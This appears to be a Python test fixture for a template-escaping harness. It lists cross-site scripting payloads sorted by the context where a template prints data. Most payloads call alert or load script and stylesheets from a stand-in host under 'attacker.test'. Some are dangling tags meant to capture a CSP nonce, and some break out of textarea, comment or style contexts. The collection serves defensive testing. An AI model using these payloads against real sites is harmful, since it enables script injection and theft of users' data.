"""What an attacker puts where a template prints data.

Each payload leaves a trace if it works: it calls `alert` with the number of its case, it makes the
browser ask a host that is named for the case, or it applies the style property `--applied`.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence

#: No host has a name in this domain. What is asked of it, `foreign.py` hears and answers.
FOREIGN_DOMAIN = "attacker.test"

#: For the other value of a page: it follows `\\`, which has made the string run on to there.
SECOND_HALF = ";alert({case})//"

_ATTRIBUTE = (
    "x onload=alert({case}) onerror=alert({case})",
    '" onload=alert({case}) onerror=alert({case}) x="',
    "x src=//{host}/a.js",
    " src=//{host}/a.js",
    "x src=data:text/javascript,alert({case})",
    '" src=//{host}/a.js x="',
    "script src=//{host}/a.js x=",
    "text/javascript",
    "module",
    "stylesheet",
    "stylesheet href=//{host}/a.css",
    '"><script src=//{host}/a.js></script>',
)

_ADDRESS = (
    "/{host}",
    "//{host}/a.js",
    "http://{host}/a.js",
    "\\{host}",
    "/\\{host}/a.js",
    "\t//{host}/a.js",
    "/media/{case}.js",
    "../media/{case}",
    "../media/{case}.js",
    "javascript:alert({case})",
    "data:text/javascript,alert({case})",
    "data:text/css,html{{--applied:yes}}",
)

_SCRIPT = (
    "\\",
    "alert({case})",
    "'+alert({case})+'",
    '"+alert({case})+"',
    "${{alert({case})}}",
    "\nalert({case})//",
    "\u2028alert({case})//",
    '";alert({case})//',
    "';alert({case})//",
    "*/alert({case})/*",
    "</script><script>alert({case})</script>",
    "<!--<script>",
)

_STYLE = (
    "red}}html{{--applied:yes}}x{{",
    "html{{--applied:yes}}",
    "*/html{{--applied:yes}}/*",
    "@import '//{host}/a.css';",
    "</style><style>html{{--applied:yes}}</style>",
)

_MARKUP = (
    "<script>alert({case})</script>",
    "<script src=//{host}/a.js></script>",
    "<script src=data:text/javascript,alert({case})></script>",
    "<base href=//{host}/>",
    "<img src=x onerror=alert({case})>",
    "<svg onload=alert({case})>",
    "<svg><script href=//{host}/a.js></script></svg>",
    '<iframe srcdoc="<script>parent.alert({case})</script>"></iframe>',
    "<iframe src=javascript:parent.alert({case})></iframe>",
    "<object data=//{host}/a></object>",
    "<link rel=stylesheet href=//{host}/a.css>",
    "<link rel=modulepreload href=//{host}/a.js>",
    "<link rel=preload as=script href=//{host}/a.js>",
    "<style>html{{--applied:yes}}</style>",
    "<img src='//{host}/?",
)

# The tag does not end: it takes in what the template has next, with the nonce that stands there.
_DANGLING = (
    "<script src=//{host}/a.js ",
    "<script src=//{host}/a.js x=",
    '<script src=//{host}/a.js x="',
    "<script src=//{host}/a.js x='",
    "<svg><script href=//{host}/a.js ",
    "<link rel=stylesheet href=//{host}/a.css ",
    "<link rel=modulepreload href=//{host}/a.js ",
    "<style x=",
)

_LEAVING = (
    "--><script src=//{host}/a.js></script>",
    "--><script src=//{host}/a.js ",
    "</textarea></title></style></noscript></template><script src=//{host}/a.js></script>",
    "</textarea></title></style></noscript></template><script src=//{host}/a.js ",
    "</textarea></title></script></style></noscript></template><script>alert({case})</script>",
)

#: By the place that the data is printed in; `templates/` has a folder for each.
PAYLOADS: Mapping[str, Sequence[str]] = {
    "attribute": _ATTRIBUTE,
    "address": _ADDRESS,
    "script": _SCRIPT,
    "style": _STYLE,
    "markup": _MARKUP + _DANGLING + _LEAVING,
}

# Several in one, for where there are too many places for each by itself.
_WHOLE_MARKUP = "".join(_MARKUP[:-1])

#: The first thing to try where a tag with a nonce may follow.
FEW_DANGLING: Sequence[str] = (
    "<script src=//{host}/a.js ",
    "<script src=//{host}/a.js x='",
    "<link rel=stylesheet href=//{host}/a.css ",
)

#: What is tried in places that are many.
FEW_PAYLOADS: Mapping[str, Sequence[str]] = {
    "attribute": (
        "x src=//{host}/a.js href=//{host}/a.css",
        '" src=//{host}/a.js href=//{host}/a.css onload=alert({case}) onerror=alert({case}) x="',
        '"><script src=//{host}/a.js></script>',
        '"><script src=//{host}/a.js ',
    ),
    "address": (
        "/{host}",
        "//{host}/a.js",
        "javascript:alert({case})",
        '" src=//{host}/a.js href=//{host}/a.css x="',
        '"><script src=//{host}/a.js ',
    ),
    "script": _SCRIPT,
    "style": _STYLE,
    "markup": (_WHOLE_MARKUP, *FEW_DANGLING, "</textarea></title>-->" + _WHOLE_MARKUP),
}

#: The dangling tags that browsers let take it. Their check is for scripts alone, and nothing that
#: a template prints can add one for links.
STEALING_LINKS = frozenset(
    payload for payload in _DANGLING if payload.startswith("<link") and payload.endswith(" ")
)


def host_of(case: int) -> str:
    """The foreign host that the payloads of a case ask."""
    return f"case{case}.{FOREIGN_DOMAIN}"


def filled_in(payload: str, case: int) -> str:
    """`payload` with the number and the host of its case."""
    return payload.format(case=case, host=host_of(case))
